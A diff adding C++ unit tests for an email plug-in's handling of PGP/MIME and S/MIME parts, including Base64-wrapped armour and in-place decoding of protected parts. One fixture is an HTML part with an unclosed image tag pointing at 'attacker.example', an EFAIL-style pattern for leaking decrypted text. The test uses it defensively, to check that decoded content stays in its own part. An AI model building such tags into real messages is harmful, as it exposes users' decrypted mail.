@@ -1,5 +1,6 @@
 // Splitting received protected entities: the kinds, what the PGPsdk gets to see, the decoded
 // S/MIME signature, the armour charset, and the MIME helpers on their own edge cases.
+#include "engine/PSMimeParts.h"
 #include "engine/PSMimeTools.h"
 
 #include "foundation/Base64.h"
@@ -51,6 +52,15 @@ TEST(SplitSecureMime, PgpEncryptedGivesTheArmourAndDropsMimeFields)
     EXPECT_EQ(s.kind, kSecureMimePgp);
     EXPECT_EQ(s.header, "Subject: hi\r\n");
     EXPECT_EQ(s.body, kArmor + "\r\n");
+
+    // Gateways send the encrypted part Base64: the armour is found in its decoded body.
+    const Split b = SplitOf(
+        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=B\r\n\r\n"
+        "--B\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--B\r\n"
+        "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+        + Base64Encode(kArmor) + "\r\n--B--\r\n");
+    EXPECT_EQ(b.kind, kSecureMimePgp);
+    EXPECT_EQ(b.body, kArmor);
 }
 
 TEST(SplitSecureMime, PgpSignedKeepsTheWholeEntityForVerification)
@@ -143,6 +153,115 @@ TEST(MimeHelpers, PartsArmourAndFolding)
             end = folded.size();
         EXPECT_LE(end - from, 76u) << folded;
     }
+}
+
+// Protected parts beside plain ones are decoded one by one, each in its own part's place; every
+// other byte of the message stays as it came.
+TEST(DecodeProtectedParts, EachProtectedPartTakesItsOwnPlace)
+{
+    const std::string head = "Subject: parts\r\nMIME-Version: 1.0\r\n";
+    const std::string pgpMime
+        = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
+          "boundary=\"in\"\r\n\r\n--in\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
+          "Version: 1\r\n\r\n--in\r\nContent-Type: application/octet-stream\r\n\r\n"
+        + kArmor + "\r\n--in--\r\n";
+    const std::string html = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/";
+    const std::string file = "Content-Type: application/octet-stream; name=\"plan.txt.pgp\"\r\n"
+                             "Content-Transfer-Encoding: base64\r\n\r\n"
+        + Base64Encode("\x85\x01binary") + "\r\n";
+    const std::string inlineText = "Content-Type: text/plain\r\n\r\nHi\r\n\r\n" + kArmor;
+    // As this plug-in's inline encryption sends an attachment: its own name, the armour as it is.
+    const std::string ownFile = "Content-Type: application/octet-stream; name=\r\n \"data.bin\"\r\n"
+                                "Content-Transfer-Encoding: 7BIT\r\n\r\n"
+        + kArmor;
+    const std::string message = head
+        + "Content-Type: multipart/mixed; boundary=\"out\"\r\n\r\npreamble\r\n--out\r\n" + html
+        + "\r\n--out\r\n" + pgpMime + "\r\n--out\r\n" + file + "--out\r\n" + inlineText + "\r\n--out\r\n"
+        + ownFile + "\r\n--out--\r\nepilogue\r\n";
+    ASSERT_TRUE(HasProtectedParts(message));
+
+    std::vector<std::pair<TPartForm, std::string>> seen;
+    const auto decode = [&](TPartForm form, const std::string& content, std::string& result) {
+        seen.emplace_back(form, content);
+        result = form == TPartForm::Entity ? "Content-Type: text/plain\r\n\r\nsecret entity\r\n"
+            : form == TPartForm::File      ? "plain file"
+                                           : "Hi\r\nsecret text\r\n";
+        return true;
+    };
+    const TProtectedParts parts = DecodeProtectedParts(message, decode);
+    ASSERT_EQ(seen.size(), 4u);
+    EXPECT_EQ(seen[0], std::make_pair(TPartForm::Entity, pgpMime));
+    EXPECT_EQ(seen[1], std::make_pair(TPartForm::File, std::string("\x85\x01binary")));
+    EXPECT_EQ(seen[2], std::make_pair(TPartForm::ArmouredText, "Hi\r\n\r\n" + kArmor));
+    EXPECT_EQ(seen[3], std::make_pair(TPartForm::File, kArmor));
+    EXPECT_EQ(parts.Protected, 4);
+    EXPECT_EQ(parts.Decoded, 4);
+    EXPECT_TRUE(parts.PlainContent); // the HTML part
+    const std::string attachment = "Content-Type: application/octet-stream; name=\"plan.txt\"\r\n"
+                                   "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; "
+                                   "filename=\"plan.txt\"\r\n\r\n"
+        + Base64Encode("plain file") + "\r\n";
+    EXPECT_EQ(parts.Message,
+        head + "Content-Type: multipart/mixed; boundary=\"out\"\r\n\r\npreamble\r\n--out\r\n" + html
+            + "\r\n--out\r\nContent-Type: text/plain\r\n\r\nsecret entity\r\n\r\n--out\r\n" + attachment
+            + "--out\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\nHi\r\nsecret "
+              "text\r\n"
+            + "\r\n--out\r\nContent-Type: application/octet-stream; "
+              "name=\"data.bin\"\r\nContent-Transfer-Encoding: "
+              "base64\r\nContent-Disposition: attachment; filename=\"data.bin\"\r\n\r\n"
+            + Base64Encode("plain file") + "\r\n--out--\r\nepilogue\r\n");
+    ASSERT_EQ(parts.DecodedRanges.size(), 4u);
+    EXPECT_EQ(parts.Message.substr(
+                  parts.DecodedRanges[0].first, parts.DecodedRanges[0].second - parts.DecodedRanges[0].first),
+        "Content-Type: text/plain\r\n\r\nsecret entity\r\n");
+
+    // What the decoder refuses stays as it came.
+    const TProtectedParts refused
+        = DecodeProtectedParts(message, [](TPartForm, const std::string&, std::string&) { return false; });
+    EXPECT_EQ(refused.Message, message);
+    EXPECT_EQ(refused.Decoded, 0);
+    EXPECT_EQ(refused.Protected, 4);
+}
+
+TEST(DecodeProtectedParts, WhichMessagesTakeThePartsWay)
+{
+    const std::string versionPart = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
+    const std::string armourPart = "Content-Type: application/octet-stream\r\n\r\n" + kArmor;
+    const std::string rewrapped = "Subject: r\r\nContent-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\n"
+        + versionPart + "\r\n--r\r\n" + armourPart + "\r\n--r--\r\n";
+    const std::string whole
+        = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=r\r\n\r\n"
+          "--r\r\n"
+        + versionPart + "\r\n--r\r\n" + armourPart + "\r\n--r--\r\n";
+    const std::string plainMixed
+        = "Content-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\nContent-Type: text/plain\r\n\r\n"
+          "hello\r\n--r--\r\n";
+    const std::string fileAlone
+        = "Subject: f\r\nContent-Type: application/octet-stream; name=\"smime.p7m\"\r\n"
+          "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAx\r\n";
+    const std::string inlineText = "Subject: i\r\n\r\n" + kArmor;
+    const std::string ascKey
+        = "Content-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\nContent-Type: application/pgp-keys; "
+          "name=\"key.asc\"\r\n\r\n-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nmQ==\r\n"
+          "-----END PGP PUBLIC KEY BLOCK-----\r\n--r--\r\n";
+    EXPECT_TRUE(HasProtectedParts(rewrapped));
+    EXPECT_TRUE(HasProtectedParts(fileAlone));
+    EXPECT_FALSE(HasProtectedParts(whole)); // the whole message is the protected entity
+    EXPECT_FALSE(HasProtectedParts(plainMixed));
+    EXPECT_FALSE(HasProtectedParts(inlineText));
+    EXPECT_FALSE(HasProtectedParts(ascKey));
+
+    // The re-wrapped pair is decoded as the PGP/MIME message it was, in place of the multipart.
+    std::string given;
+    const TProtectedParts parts = DecodeProtectedParts(
+        rewrapped, [&](TPartForm form, const std::string& content, std::string& result) {
+            given = content;
+            result = "Content-Type: text/plain\r\n\r\nunwrapped\r\n";
+            return form == TPartForm::Entity;
+        });
+    EXPECT_EQ(SplitOf(given).body, kArmor + "\r\n");
+    EXPECT_EQ(parts.Message, "Subject: r\r\nContent-Type: text/plain\r\n\r\nunwrapped\r\n");
+    EXPECT_FALSE(parts.PlainContent);
 }
 
 } // namespace
